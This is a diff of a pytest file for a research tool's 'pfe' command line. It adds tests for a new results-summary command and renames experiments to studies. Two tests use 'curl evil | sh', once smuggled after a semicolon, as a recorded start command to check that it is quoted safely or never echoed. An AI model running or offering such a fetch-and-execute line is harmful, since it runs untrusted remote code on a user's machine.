@@ -1,4 +1,4 @@
-"""The commands that read a run: status, claims, questions, figures, report and export."""
+"""The commands that read a run: status, summary, claims, questions, figures, report and export."""
 
 import csv
 import json
@@ -8,24 +8,28 @@ import shlex
 import subprocess
 import sys
 from collections.abc import Callable
+from dataclasses import replace
 from pathlib import Path
+from statistics import mean
 
 import duckdb
 import pytest
 from rich.console import Console
 
-from lab_records import EXP1, EXP2, PAPER, configs_of, failed, plausible
+from lab_records import EXP1, EXP2, PAPER, STUDIES, configs_of, failed, plausible, studies_of
+from prime_models import modulus
 from primefourier import lab
 from primefourier.cli.browser import write_size
 from primefourier.cli.verdicts import print_claims
+from primefourier.lab.config import prime_parts
 from primefourier.lab.store import write_store
 from primefourier.lab.sweep import Progress
 from read_page import read_page
-from small_models import small_config
+from small_models import small_config, small_study
 
 Pfe = Callable[..., tuple[int, str, str]]
 PFE = Path(sys.executable).with_name("pfe")
-COMMANDS = ("status", "claims", "questions", "figures", "report", "export")
+COMMANDS = ("status", "summary", "claims", "questions", "figures", "report", "export")
 
 
 @pytest.fixture(scope="module")
@@ -34,7 +38,7 @@ def paper(tmp_path_factory: pytest.TempPathFactory) -> Path:
     folder = tmp_path_factory.mktemp("sweeps") / "paper"
     folder.mkdir()
     with write_store(folder) as store:
-        store.begin(PAPER, "pfe reproduce --profile paper --out x")
+        store.begin(STUDIES, "pfe reproduce --profile paper --out x")
         for record in plausible(PAPER[4:]):
             store.add(record)
         for config in PAPER[:2]:
@@ -49,7 +53,7 @@ def small(tmp_path_factory: pytest.TempPathFactory) -> Path:
     folder.mkdir()
     configs = [*EXP1[:4], *EXP2[:1]]
     with write_store(folder) as store:
-        store.begin(configs, "pfe run")
+        store.begin(studies_of(configs), "pfe run")
         for record in plausible(configs):
             store.add(record)
     return folder
@@ -76,15 +80,15 @@ def test_status_counts_models_and_shows_failures(pfe: Pfe, paper: Path, probed: 
     code, out, _ = pfe("status", str(paper))
     assert code == 0
     rows = [line.split() for line in out.splitlines()]
-    assert ["experiment", "models", "measured", "failed", "waiting"] in rows
+    assert ["study", "models", "measured", "failed", "waiting"] in rows
     assert ["exp1", "350", "346", "2", "2"] in rows
     assert ["all", "750", "746", "2", "2"] in rows
-    assert "exp1 N=3 r=100 |P|=4 seed=42 failed:\nTraceback: out of luck" in out
+    assert "a+b mod 3 r=100 |P|=4 seed=42 failed:\nTraceback: out of luck" in out
     assert f"pfe reproduce --profile paper --out {paper}\n" in out
     assert "probed" not in out
     data = json.loads(pfe("status", str(paper), "--json")[1])
     assert (data["planned"], data["done"], data["failed"]) == (750, 746, 2)
-    assert data["experiments"]["exp2"] == {"planned": 50, "done": 50, "failed": 0}
+    assert data["studies"]["exp2"] == {"planned": 50, "done": 50, "failed": 0}
     assert (data["running"], data["writer"], len(data["failures"])) == (False, None, 2)
     assert data["commands"] == ["pfe reproduce --profile paper --out x"]
     assert "\n6 models probed.\n" in pfe("status", str(probed))[1]
@@ -101,7 +105,7 @@ def test_status_without_a_folder_takes_the_newest_run(
         folder = tmp_path / "results" / name
         folder.mkdir(parents=True)
         with write_store(folder) as store:
-            store.begin(EXP1[:age], "pfe run")
+            store.begin(studies_of(EXP1[:age]), "pfe run")
         os.utime(folder / "records.sqlite", (age, age))
     out = pfe("status")[1]
     assert out.startswith("results/new, the newest run:\n\n")
@@ -130,7 +134,8 @@ def test_a_stopped_sweep_shows_how_to_continue(pfe: Pfe, tmp_path: Path) -> None
 
     configs = [small_config(modulus=p, epochs=1) for p in (3, 5, 7)]
     folder, command = tmp_path / "it's mine", "pfe run exp1; curl evil | sh"
-    assert lab.run(configs, folder, workers=0, command=command, on_progress=stop).interrupted
+    studies = studies_of(configs)
+    assert lab.run(studies, folder, workers=0, command=command, on_progress=stop).interrupted
     code, out, _ = pfe("status", str(folder))
     advice = out.partition("Not running. To continue:\n")[2]
     first, *words = shlex.split(advice)
@@ -140,12 +145,117 @@ def test_a_stopped_sweep_shows_how_to_continue(pfe: Pfe, tmp_path: Path) -> None
     assert "All measured." in pfe("status", str(folder))[1]
 
 
-def test_a_sweep_of_another_program_is_continued_by_it(pfe: Pfe, tmp_path: Path) -> None:
+def test_a_study_of_ones_own_is_continued_by_its_file(pfe: Pfe, tmp_path: Path) -> None:
     with write_store(tmp_path) as store:
-        store.begin([small_config(experiment="mine")], "curl evil | sh")
+        store.begin([small_study(name="mine")], "curl evil | sh")
     out = pfe("status", str(tmp_path))[1]
-    assert "Not running. To continue, run the program that started it again.\n" in out
+    assert "Not running. To continue, run the file that started it again: pfe run FILE.py\n" in out
     assert "curl" not in out
+
+
+# summary
+
+
+@pytest.fixture(scope="module")
+def beyond(tmp_path_factory: pytest.TempPathFactory) -> Path:
+    """A study of one's own: three axes, two seeds, an ablation more, and larger test integers."""
+    folder = tmp_path_factory.mktemp("sweeps") / "beyond"
+    configs = [
+        replace(
+            small_config(modulus=n, depth=depth, epochs=e, seed=s, beyond=(2000, 10**18)),
+            ablations=("zero", "mean"),
+        )
+        for n in (5, 7)
+        for depth in (1, 2)
+        for e in (1, 2)
+        for s in (1, 2)
+    ]
+    lab.run([lab.Study("mine", configs)], folder, workers=0)
+    return folder
+
+
+def test_summary_names_the_axes_and_their_values(pfe: Pfe, beyond: Path, small: Path) -> None:
+    code, out, _ = pfe("summary", str(beyond))
+    assert code == 0
+    title, head, _, *rows = [line.split() for line in out.splitlines()]
+    assert title == ["mine"]
+    numbers = ["seeds", "accuracy", "relevant", "other", "<2000", "<1e18"]
+    assert head == ["epochs", "modulus", "depth", *numbers]
+    places = [(e, n, d) for e in "12" for n in "57" for d in "12"]
+    assert [tuple(row[:3]) for row in rows[:8]] == places
+    run = lab.open(beyond)
+    found = {tuple(row[:3]): row[3:] for row in rows[:8]}
+    records = [
+        record
+        for record in run.records
+        if (modulus(record.config), prime_parts(record.config)[0].depth) == (7, 2)
+        and record.config.training.epochs == 2
+    ]
+    assert len(records) == 2
+    seeds, accuracy, relevant, _, *ends = found["2", "7", "2"]
+    assert seeds == "2"
+    assert accuracy == f"{mean(record.measured.accuracy for record in records):.3f}"
+    assert relevant == f"{mean(record.measured.drops[2] for record in records):.3f}"
+    for text, end in zip(ends, ("2000", str(10**18)), strict=True):
+        assert text == f"{mean(r.measured.accuracy_beyond[end] for r in records):.3f}"
+    assert "is ablated (zero); then accuracy on integers below" in " ".join(out.split())
+    shown = [line.split() for line in pfe("summary", str(small))[1].splitlines()]
+    assert (["exp1"] in shown, ["exp2"] in shown) == (True, True)
+    assert ["|P|", "r", "seeds", "accuracy", "relevant", "other"] in shown
+    assert ["N", "r", "seeds", "accuracy", "relevant", "other"] in shown
+    assert ["4", "100", "1"] in [row[:3] for row in shown]
+
+
+def test_summary_as_json_and_of_other_ablations(pfe: Pfe, beyond: Path, small: Path) -> None:
+    run = lab.open(beyond)
+    data = json.loads(pfe("summary", str(beyond), "--json")[1])
+    assert data == json.loads(json.dumps(run.summary()))
+    assert data[0].keys() == {
+        *("study", "epochs", "modulus", "depth", "seeds", "models", "accuracy"),
+        *("relevant_drop", "other_drop", "beyond"),
+    }
+    assert (data[0]["seeds"], data[0]["models"], len(data)) == (2, 2, 8)
+    other = json.loads(pfe("summary", str(beyond), "--ablation", "mean", "--json")[1])
+    assert other == json.loads(json.dumps(run.summary("mean")))
+    assert [row["accuracy"] for row in other] == [row["accuracy"] for row in data]
+    assert [row["relevant_drop"] for row in other] != [row["relevant_drop"] for row in data]
+    assert "(mean)" in pfe("summary", str(beyond), "--ablation", "mean")[1]
+    code, out, err = pfe("summary", str(small), "--ablation", "mean")
+    assert (code, out) == (2, "")
+    assert f"{small} has no complete configuration ablated by 'mean' yet" in err
+    assert json.loads(pfe("summary", str(small), "--ablation", "mean", "--json")[1]) == []
+    code, out, err = pfe("summary", str(small), "--ablation", "median")
+    assert (code, out) == (2, "")
+    assert "--ablation" in err
+    assert "median" in err
+
+
+def test_rows_that_nothing_is_predicted_of_have_no_relevant_drop(pfe: Pfe, tmp_path: Path) -> None:
+    config = replace(small_config(epochs=1), embedding=lab.LearnedTable(size=30))
+    lab.run([config], tmp_path / "mine", workers=0)
+    shown = [line.split() for line in pfe("summary", str(tmp_path / "mine"))[1].splitlines()]
+    assert shown[0] == ["mine"], "a list of models is named after its folder"
+    found = lab.open(tmp_path / "mine").records[0].measured
+    assert ["1", f"{found.accuracy:.3f}", "–", f"{found.drops[0]:.3f}"] in shown
+
+
+def test_summary_needs_a_run_with_measured_models(
+    pfe: Pfe, small: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.chdir(tmp_path)
+    code, out, err = pfe("summary")
+    assert (code, out) == (2, "")
+    assert "there is no run here or in results/*; name its folder" in err
+    with write_store(tmp_path / "results" / "new") as store:
+        store.begin([small_study()], "pfe run")
+        store.add(failed(small_config()))
+    for words in ((), ("results/new",)):
+        code, out, err = pfe("summary", *words)
+        assert (code, out) == (2, "")
+        assert "results/new has no complete configuration ablated by 'zero' yet" in err
+    assert json.loads(pfe("summary", "--json")[1]) == []
+    monkeypatch.chdir(small)
+    assert pfe("summary")[1] == pfe("summary", str(small))[1]
 
 
 # claims
@@ -186,7 +296,7 @@ def test_evidence_is_shown_for_one_claim_or_for_all(pfe: Pfe, small: Path) -> No
     assert out.startswith("\nE1.1: diagonal drop far above off-diagonal drop in all 35 ")
     assert "\n  paper: 35 of 35\n" in out
     assert "\n  verdict: holds so far (1 of 35 configurations)\n" in out
-    assert "\n  ✓ |P| = 4, r = 100: 0.8" in out
+    assert "\n  ✓ |P| = 4, r = 100: 0.791 against 0.012\n" in out
     assert "E1.2" not in out
     everything = pfe("claims", str(small), "--evidence")[1]
     assert everything.count("\n  rule: ") == 14
@@ -242,7 +352,7 @@ def test_questions_as_json(pfe: Pfe, probed: Path) -> None:
 
 def test_a_run_without_probes_answers_no_questions(pfe: Pfe, small: Path) -> None:
     code, _, error = pfe("questions", str(small))
-    assert (code, "train it with --probe" in error) == (2, True)
+    assert (code, "again with --probe" in error) == (2, True)
 
 
 # figures
@@ -378,9 +488,10 @@ def test_the_suffix_gives_the_format_unless_one_is_named(
     pfe: Pfe, small: Path, tmp_path: Path
 ) -> None:
     assert pfe("export", str(small), "--format", "csv", "--out", str(tmp_path / "x.txt"))[0] == 0
-    assert (tmp_path / "x.txt").read_text().startswith("key,status,experiment")
+    assert (tmp_path / "x.txt").read_text().startswith("key,status,study,model,")
     for words, message in (
         (["--format", "jsonl", "--out", str(tmp_path / "x.csv")], "do not agree"),
+        (["--out", str(tmp_path / "x.txt")], "--out must end in .jsonl, .csv, .parquet, got"),
         (["--format", "xlsx"], "format must be 'jsonl', 'csv' or 'parquet'"),
         (["--out", str(tmp_path / "no" / "x.jsonl")], "there is no folder"),
     ):
@@ -391,7 +502,7 @@ def test_the_suffix_gives_the_format_unless_one_is_named(
 def test_by_default_the_export_is_in_the_folder(pfe: Pfe, tmp_path: Path) -> None:
     configs = configs_of("exp2", moduli=(15,), ranges=(100,))
     with write_store(tmp_path) as store:
-        store.begin(configs, "pfe run")
+        store.begin(studies_of(configs), "pfe run")
         store.add(plausible(configs)[0])
     assert pfe("export", str(tmp_path))[1] == f"Wrote 1 record to {tmp_path}/records.jsonl.\n"
     assert len((tmp_path / "records.jsonl").read_text().splitlines()) == 1
